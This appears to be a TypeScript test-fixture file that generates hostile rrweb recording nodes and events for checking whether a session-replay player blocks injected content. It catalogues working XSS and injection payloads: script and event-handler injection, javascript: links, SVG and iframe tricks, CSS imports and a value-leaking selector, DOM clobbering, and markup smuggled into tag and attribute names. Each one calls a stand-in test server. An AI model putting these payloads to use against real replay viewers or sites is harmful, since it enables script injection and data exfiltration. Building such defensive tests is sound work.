/**
 * Recordings that would run, ask, lead elsewhere or take over the player, by technique: those known of rrweb's players and those
 * of HTML, SVG and CSS at large. Each is a node, or a change, that no gate has seen.
 */

export interface HostileNode {
  technique: string;
  node: RawNode;
}

interface RawNode {
  type: number;
  id?: number;
  tagName?: string;
  attributes?: Record<string, unknown>;
  childNodes?: RawNode[];
  textContent?: string;
  isSVG?: true;
  isStyle?: true;
  isCustom?: true;
  isShadow?: true;
  isShadowHost?: true;
}

const element = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: RawNode[] = [], more: Partial<RawNode> = {}): RawNode => ({
  type: 2,
  tagName,
  attributes,
  childNodes,
  ...more,
});
const text = (textContent: string): RawNode => ({ type: 3, textContent });
const svg = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: RawNode[] = []) => element(tagName, attributes, childNodes, { isSVG: true });

/** `elsewhere` is a server that hears whatever is asked of it. */
export function makeHostileNodes(elsewhere: string): HostileNode[] {
  const run = `console.info('ALARM ran');new Image().src='${elsewhere}/ran';try{top.trip()}catch(e){}`;
  const js = `javascript:${encodeURIComponent(run)}`;
  const page = `<script>${run}</script><img src=x onerror="${run}"><meta http-equiv=refresh content="0;url=${elsewhere}/refreshed">`;
  const at = (name: string) => `${elsewhere}/${name}`;
  const drawing = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${at("svg")}"/></svg>`)}`;
  const handlers = ["onload", "onerror", "onclick", "onfocus", "onanimationstart", "ontoggle", "onpointerover", "onscroll", "onbegin"];
  const on = Object.fromEntries(handlers.map((name) => [name, run]));
  return [
    ["a script", element("script", {}, [text(run)])],
    ["a script from elsewhere", element("script", { src: at("script.js") })],
    ["a script in capitals", element("SCRIPT", {}, [text(run)])],
    ["a module script", element("script", { type: "module", src: at("module.js") })],
    ["a script in a drawing", svg("svg", {}, [svg("script", {}, [text(run)]), svg("script", { href: at("svg.js") })])],
    ["a script with a prefix", svg("svg", {}, [svg("svg:script", {}, [text(run)])])],
    ["a script in noscript", element("noscript", {}, [element("script", {}, [text(run)])])],
    ["a script in a template", element("template", {}, [element("script", {}, [text(run)])])],
    ["a script in a shadow", element("div", {}, [element("script", {}, [text(run)], { isShadow: true })], { isShadowHost: true })],
    ["handlers", element("img", { src: "x", ...on })],
    ["handlers on a body", element("body", on)],
    ["handlers on a drawing", svg("svg", on, [svg("animate", { ...on, attributeName: "x", dur: "1s" })])],
    ["handlers on details", element("details", { open: "", ...on }, [text("x")])],
    ["handlers on a media element", element("video", { ...on, autoplay: "", src: at("film"), poster: at("poster") })],
    ["a field that focuses itself", element("input", { autofocus: "", ...on, tabindex: "1" })],
    ["a link that runs", element("a", { href: js, target: "_top", ping: at("ping") }, [text("x")])],
    ["a link by a drawing", svg("svg", {}, [svg("a", { href: js, "xlink:href": js }, [svg("text", {}, [text("x")])])])],
    ["a link that is animated", svg("svg", {}, [svg("a", { href: "#a" }, [svg("set", { attributeName: "href", to: js }), svg("animate", { attributeName: "xlink:href", values: `${js};${js}`, dur: "1s" })])])],
    ["a foreign object", svg("svg", {}, [svg("foreignObject", { width: "10", height: "10" }, [element("iframe", { srcdoc: page }), element("img", { src: at("foreign"), ...on })])])],
    ["a use from elsewhere", svg("svg", {}, [svg("use", { href: at("use.svg#a"), "xlink:href": `data:image/svg+xml,${encodeURIComponent(page)}#a` })])],
    ["pictures in a drawing", svg("svg", {}, [svg("image", { href: at("image"), "xlink:href": at("xlink") }), svg("filter", {}, [svg("feImage", { href: at("feimage") })])])],
    ["paint from elsewhere", svg("svg", {}, [svg("rect", { fill: `url(${at("fill")}#a)`, mask: `url('${at("mask")}#a')`, style: `fill:url(${at("style")}#a)` })])],
    ["a frame with a page in it", element("iframe", { srcdoc: page, sandbox: "allow-scripts allow-top-navigation" })],
    ["a frame from elsewhere", element("iframe", { src: at("frame"), allow: "camera" })],
    ["a frame that runs", element("iframe", { src: js })],
    ["a frame with data", element("iframe", { src: `data:text/html,${encodeURIComponent(page)}` })],
    ["frames of old", element("frameset", {}, [element("frame", { src: at("frame") })])],
    ["an object", element("object", { data: at("object"), type: "text/html" }, [element("param", { name: "src", value: js })])],
    ["an embed", element("embed", { src: js, type: "image/svg+xml" })],
    ["an applet", element("applet", { code: at("applet") })],
    ["a portal", element("portal", { src: at("portal") })],
    ["a refresh", element("meta", { "http-equiv": "refresh", content: `0;url=${at("refresh")}` })],
    ["a refresh that runs", element("meta", { "http-equiv": "refresh", content: `0;url=${js}` })],
    ["a policy of its own", element("meta", { "http-equiv": "Content-Security-Policy", content: "script-src * 'unsafe-inline'" })],
    ["a base", element("base", { href: `${elsewhere}/`, target: "_top" })],
    ["a relative picture", element("img", { src: "picture.png", srcset: `${at("srcset")} 2x` })],
    ["a picture with data", element("img", { rr_dataURL: drawing, src: drawing })],
    ["a canvas with data", element("canvas", { rr_dataURL: at("canvas") })],
    ["a lazy picture", element("picture", {}, [element("source", { srcset: at("source") }), element("img", { loading: "eager", src: at("img") })])],
    ["sound and film", element("audio", { src: at("audio"), autoplay: "", rr_mediaState: "played" }, [element("track", { src: at("track"), default: "" })])],
    ["links that load", element("div", {}, ["stylesheet", "preload", "modulepreload", "prefetch", "preconnect", "dns-prefetch", "prerender", "icon", "manifest", "import"].map((rel) => element("link", { rel, href: at(rel), as: "style" })))],
    ["a linked sheet that imports", element("link", { rel: "stylesheet", href: at("linked"), _cssText: `@import url(${at("link-import")});` })],
    ["a style that imports", element("style", {}, [text(`@import '${at("import")}';@import url("${at("import-url")}") screen;`)])],
    ["a style that draws", element("style", { _cssText: `body{background:url(${at("background")});cursor:url(${at("cursor")}),auto;list-style:image-set("${at("set")}" 1x)}` })],
    ["a style written around", element("style", {}, [text(`body{background:u\\72l(${at("escaped")})}p{background:\\75 \\72 \\6c(${at("spaced")})}@\\69mport "${at("escaped-import")}";`)])],
    ["a style with fonts", element("style", {}, [text(`@font-face{font-family:x;src:url(${at("font")})}body{font-family:x}`)])],
    ["a style by attribute", element("div", { style: `background-image:url("${at("inline")}");behavior:url(${at("htc")});-moz-binding:url(${at("xbl")})` }, [text("x")])],
    ["values read by a style", element("style", {}, [text(`input[value^="a"]{background:url(${at("leak")})}`)])],
    ["a form", element("form", { action: at("form"), method: "post" }, [element("input", { name: "a", value: "b", autofocus: "" }), element("button", { formaction: js, type: "submit" }, [text("x")]), element("input", { type: "image", src: at("input-image"), formaction: at("formaction") })])],
    ["an old background", element("table", { background: at("table") }, [element("td", { background: at("td") })])],
    ["a custom element", element("x-y", { ...on, is: "x" }, [], { isCustom: true })],
    ["a built-in made custom", element("button", { is: "x-y", ...on }, [])],
    ["a name that is the window's", element("img", { name: "parent", id: "top" })],
    ["a document name that clobbers", element("form", { id: "documentElement", name: "contentDocument" }, [element("input", { name: "parentNode", id: "head" })])],
    ["a doctype with entities", { type: 1, ...({ name: `html [<!ENTITY x SYSTEM "${at("entity")}">]`, publicId: "", systemId: at("dtd") } as object) } as RawNode],
    ["markup as text", text(page)],
    ["markup as a comment", { type: 5, textContent: `--><script>${run}</script>` }],
    ["a tag name with markup", element(`img src=${at("tag")} onerror=${run}`)],
    ["an attribute name with markup", element("p", { [`x onload=${run}`]: "x", "\"><script>": run })],
    ["a template of the old kind", element("plaintext", {}, [text(page)])],
    ["mathematics", element("math", {}, [element("maction", { "xlink:href": js, href: js, actiontype: "statusline" }, [text("x")])])],
    ["a popover that opens", element("dialog", { open: "", ...on, rr_open_mode: "modal" }, [text("x")])],
    ["a marquee", element("marquee", { onstart: run, ...on }, [text("x")])],
  ].map(([technique, node]) => ({ technique, node }) as HostileNode);
}

const AT = 1_700_000_000_000;
type Event = { type: number; timestamp: number; data: object };

/** A recording of one page that holds a technique in its first snapshot, in a later addition, and in changes of plain elements. */
export function makeHostileRecording({ node }: HostileNode, elsewhere: string): { lines: string; end: number } {
  let next = 20;
  const number = (raw: RawNode): RawNode => ({ ...raw, id: next++, ...(raw.childNodes && { childNodes: raw.childNodes.map(number) }) });
  const body = { ...element("body", {}, [{ ...element("p", {}, [{ ...text("before"), id: 7 }]), id: 6 }, { ...svg("svg", {}, [{ ...svg("a"), id: 9 }]), id: 8 }, number(node)]), id: 5 };
  const tree = { type: 0, id: 1, childNodes: [{ type: 1, id: 2, name: "html", publicId: "", systemId: "" }, { ...element("html", {}, [{ ...element("head", {}, [{ ...element("style", {}, [{ ...text("p{color:red}"), isStyle: true, id: 11 }]), id: 10 }]), id: 4 }, body]), id: 3 }] };
  const none = { adds: [], removes: [], texts: [], attributes: [] };
  const change = (at: number, data: object): Event => ({ type: 3, timestamp: AT + at, data });
  const events: Event[] = [
    { type: 4, timestamp: AT, data: { href: `${elsewhere}/meta`, width: 800, height: 600 } },
    { type: 2, timestamp: AT, data: { node: tree, initialOffset: { top: 0, left: 0 } } },
    change(20, { source: 0, ...none, adds: [{ parentId: 5, nextId: null, node: number(node) }, { parentId: 4, nextId: null, node: number(node) }] }),
    change(40, { source: 0, ...none, attributes: [{ id: 6, attributes: node.attributes ?? {} }, { id: 9, attributes: node.attributes ?? {} }] }),
    change(60, { source: 0, ...none, isAttachIframe: true, adds: [{ parentId: 6, nextId: null, node: number({ type: 0, childNodes: [element("html", {}, [element("body", {}, [node])])] }) }] }),
    change(80, { source: 2, type: 2, id: 20, x: 5, y: 5 }),
    change(90, { source: 2, type: 5, id: 20 }),
    change(100, { source: 0, ...none, texts: [{ id: 7, value: "after" }] }),
  ];
  return { lines: events.map((event) => JSON.stringify(event)).join("\n"), end: AT + 100 };
}

/** Changes of other kinds than those of the tree. */
export function makeHostileChanges(elsewhere: string): { technique: string; event: Event }[] {
  const change = (data: object): Event => ({ type: 3, timestamp: AT + 50, data });
  const run = `console.info('ALARM ran')`;
  return [
    { technique: "drawing on a canvas", event: change({ source: 9, id: 6, type: 0, commands: [{ property: "constructor", args: [`${run}`] }, { property: "drawImage", args: [{ rr_type: "HTMLImageElement", src: `${elsewhere}/draw` }, 0, 0] }] }) },
    { technique: "a constructor by name", event: change({ source: 9, id: 6, type: 1, property: "x", args: [{ rr_type: "Function", args: [run] }, { rr_type: "EventSource", args: [`${elsewhere}/source`] }] }) },
    { technique: "a font", event: change({ source: 10, family: "x", fontSource: `url(${elsewhere}/font)`, buffer: false }) },
    { technique: "a rule", event: change({ source: 8, id: 10, adds: [{ rule: `@import url(${elsewhere}/rule)`, index: 0 }] }) },
    { technique: "adopted sheets", event: change({ source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: `body{background:url(${elsewhere}/adopted)}`, index: 0 }] }] }) },
    { technique: "a declaration", event: change({ source: 13, id: 10, index: [0], set: { property: "background", value: `url(${elsewhere}/declared)`, priority: "" } }) },
    { technique: "style of an element by parts", event: change({ source: 0, adds: [], removes: [], texts: [], attributes: [{ id: 6, attributes: { style: { "background-image": `url(${elsewhere}/part)`, "--x": [`url(${elsewhere}/custom)`, ""] } } }] }) },
    { technique: "media", event: change({ source: 7, id: 6, type: 0, currentTime: 1 }) },
    { technique: "a custom element", event: change({ source: 16, define: { name: "x-y" } }) },
    { technique: "a plugin", event: { type: 6, timestamp: AT + 50, data: { plugin: "rrweb/console@1", payload: { level: "log", payload: [run] } } } },
    { technique: "an asset", event: { type: 7, timestamp: AT + 50, data: { url: `${elsewhere}/asset`, payload: { rr_type: "CssText", cssTexts: [`@import "${elsewhere}/asset-import"`] } } } },
    { technique: "a click on a link", event: change({ source: 2, type: 2, id: 9, x: 1, y: 1 }) },
  ];
}
